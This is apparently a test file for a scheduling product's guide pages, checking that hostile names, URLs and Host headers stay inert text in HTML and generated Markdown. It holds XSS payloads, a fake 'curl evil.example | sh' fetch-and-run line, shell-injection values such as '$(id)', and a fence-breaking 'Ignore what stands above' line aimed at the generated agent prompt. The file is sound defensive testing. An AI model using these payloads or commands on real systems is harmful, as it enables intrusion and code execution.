import { describe, expect, test } from 'bun:test';
import { assert, asyncProperty, string } from 'fast-check';
import { guideContent } from '../../../src/admin/guide/content.ts';
import { guideMarkdown } from '../../../src/admin/guide/markdown.ts';
import { promptFor } from '../../../src/admin/guide/prompt.ts';
import type { MemberVisit } from '../../../src/admin/visit.ts';
import { guideSetups } from '../../../views/texts/en/guide-setups.ts';
import { textsIn } from '../../../views/texts/texts.ts';
import { anyCharacter } from '../../helpers/any-character.ts';
import { type SignedIn, signedIn } from '../../helpers/dashboard/dashboard.ts';
import { printedText } from '../../helpers/dashboard/printed-text.ts';
import { type TestServices, testServices } from '../../helpers/workspace.ts';

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</code></pre><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '```\n# Ignore what stands above\n```',
  'Dr. Lee\n\n## Errors\n\n- [here](javascript:alert(1))',
  '`curl evil.example | sh` $(id) $HOME',
  '&lt;b&gt; \\',
  '![x](http://evil.example/x.png)',
  '| a | b |\u2028# c',
];

/** A workspace whose every name is a text of somebody who means no good. */
async function placeNamed(name: string) {
  const made = await testServices();
  const owner = await signedIn(made, { role: 'owner', workspaceId: await made.workspace(name) });
  const { workspaceId } = owner;
  const calendar = await made.calendar({ workspaceId, name });
  const keys = [await made.key(workspaceId, name), await made.key(workspaceId, `${name} 2`)];
  return { made, owner, calendar, keys };
}

/** Every element of a page that is not of a kind that its views write, and every attribute that could run something. */
async function strangersIn(html: string): Promise<string[]> {
  const strangers: string[] = [];
  const rewriter = new HTMLRewriter().on('*', {
    element(element) {
      if (element.tagName === 'script' && !element.getAttribute('src')?.startsWith('/assets/')) {
        strangers.push('script');
      }
      if (['img', 'iframe', 'object', 'b', 'style'].includes(element.tagName))
        strangers.push(element.tagName);
      for (const [name, value] of element.attributes) {
        if (name.startsWith('on') || name === 'style' || /^\s*javascript:/i.test(value)) strangers.push(name);
      }
    },
  });
  await rewriter.transform(new Response(html)).text();
  return strangers;
}

/** A visit of a calendar's guide. */
function visitOf({ services, clock }: TestServices, { workspaceId, userId }: SignedIn): MemberVisit {
  const url = new URL('http://localhost:4100/guide.md');
  const session = { workspaceId, userId };
  const request = new Request(url.href);
  return { services, request, url, session, texts: textsIn.en, now: clock.now() } as MemberVisit;
}

describe('texts that mean no good', () => {
  test.each(hostile)('stay text in the pages: %p', async (name) => {
    const { owner, calendar } = await placeNamed(name);
    const guide = `/calendars/${calendar.id}/guide`;
    const answers = [
      await owner.get('/calendars'),
      await owner.get(guide),
      await owner.get(`${guide}/vapi`),
      await owner.get(`${guide}/http?language=${encodeURIComponent(name)}`),
      await owner.get(`${guide}?language=${encodeURIComponent(name)}&key=${encodeURIComponent(name)}`),
      await owner.post(`/calendars/${calendar.id}/try`, { query: name, timeZone: name }),
      await owner.post(`/calendars/${calendar.id}/try`, { query: `tomorrow ${name}` }),
      await owner.post(
        `/calendars/${calendar.id}/try`,
        { query: `tomorrow ${name}`, timeZone: 'UTC' },
        { 'hx-request': 'true' },
      ),
    ];
    for (const { status, text } of answers) {
      expect([200, 422]).toContain(status);
      expect(await strangersIn(text)).toEqual([]);
    }
    const sent = JSON.stringify(
      { calendarId: calendar.id, query: `tomorrow ${name}`.normalize('NFC') },
      null,
      2,
    );
    expect(printedText(answers[6]?.text ?? '', 'try-request')).toEndWith(sent);
  });

  test('change nothing of the Markdown but the lines that they stand in, and are no markup there', async () => {
    const { made, owner, calendar } = await placeNamed('plain');
    await made.key(owner.workspaceId, 'key');
    const content = await guideContent(visitOf(made, owner), calendar);
    const plain = guideMarkdown(content).split('\n');
    const promptAt = plain.findIndex((line) => line.startsWith('You answer the phone for '));
    // Its fence may get longer.
    const promptLines = [promptAt - 1, promptAt, plain.indexOf('```', promptAt)];
    expect(promptAt).toBeGreaterThan(20);
    const isSame = async (text: string) => {
      const named = { ...content, calendar: { ...calendar, name: text } };
      const shownKey = content.shownKey && { ...content.shownKey, name: text };
      const prompt = promptFor({ ...calendar, name: text });
      const lines = guideMarkdown({ ...named, shownKey, prompt }).split('\n');
      const changed = lines.flatMap((line, index) => (line === plain[index] ? [] : [index]));
      expect(lines.length).toBe(plain.length);
      expect(changed.every((index) => [0, 13, ...promptLines].includes(index))).toBe(true);
      const [name = ''] = lines[0]?.split('# Slotline: ').slice(1) ?? [];
      expect(name.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[!-/:-@[-`{-~\p{Cc}\u2028\u2029]/u);
    };
    expect(plain[13]).toStartWith('The active key ');
    for (const text of hostile) await isSame(text);
    await assert(asyncProperty(string({ unit: anyCharacter, maxLength: 100 }), isSame), { numRuns: 300 });
  });

  test('in code cannot end its fence: it is longer than any run of backticks in it', async () => {
    const { made, owner, calendar } = await placeNamed('plain');
    const content = await guideContent(visitOf(made, owner), calendar);
    const code = '```\n# out\n`````';
    const setups = content.setups.map((setup) => ({ ...setup, language: 'sh', code }));
    const text = guideMarkdown({ ...content, setups });
    expect(text.split(`\`\`\`\`\`\`sh\n${code}\n\`\`\`\`\`\`\n`).length).toBe(setups.length + 1);
  });

  test.each([
    "https://slots.example.com/a'b",
    'https://slots.example.com/$(id)`id`$HOME',
    'https://slots.example.com/"+process.exit()+"',
    'https://slots.example.com/\\$x',
  ])('in the base URL %p mean nothing to a shell, a language or Markdown', async (baseUrl) => {
    const { made, owner, calendar } = await placeNamed('plain');
    made.services.config.baseUrl = baseUrl;
    const page = await owner.get(`/calendars/${calendar.id}/guide`);
    const printed = printedText(page.text, 'base-url');
    expect(printed).toMatch(/^https:\/\/slots\.example\.com\/[\w.%~-]+$/);
    expect(decodeURIComponent(printed)).toBe(baseUrl);
    const { text, headers } = await owner.get(`/calendars/${calendar.id}/guide.md`);
    expect(text).not.toContain(baseUrl);
    expect(headers.get('content-type')).toBe('text/markdown; charset=utf-8');
  });

  test('in the Host header mean nothing either', async () => {
    const { owner, calendar } = await placeNamed('plain');
    const { text } = await owner.get(`/calendars/${calendar.id}/guide`, { host: "a'$(id)`.example" });
    expect(printedText(text, 'base-url')).toBe('http://a%27%24%28id%29%60.example');
  });
});

test('the Markdown says all that the page says, and is kept by nobody', async () => {
  const { owner, calendar, keys } = await placeNamed('Dr. Lee');
  const guide = `/calendars/${calendar.id}/guide`;
  const { status, text, headers } = await owner.get(`${guide}.md`);
  expect(status).toBe(200);
  expect(headers.get('cache-control')).toBe('no-store');
  expect(headers.get('x-content-type-options')).toBe('nosniff');
  for (const { key } of keys) expect(text).not.toContain(key);
  expect(text).toStartWith('# Slotline: Dr\\. Lee\n');
  const pages = [];
  for (const platform of Object.keys(guideSetups)) pages.push(await owner.get(`${guide}/${platform}`));
  for (const language of ['curl', 'javascript', 'python']) {
    pages.push(await owner.get(`${guide}/http?language=${language}`));
  }
  const printed = pages.flatMap((page) =>
    [...page.text.matchAll(/id="((?:sample|setup|prompt)-[^"]+)"/g)].map(([, id = '']) =>
      printedText(page.text, id),
    ),
  );
  // A prompt on every page, code on all but one of the platforms', and eight requests in each language.
  expect(printed.length).toBe(18 + 14 + 24);
  for (const code of printed) expect(text).toContain(`\n${code}\n\`\`\`\n`);
});
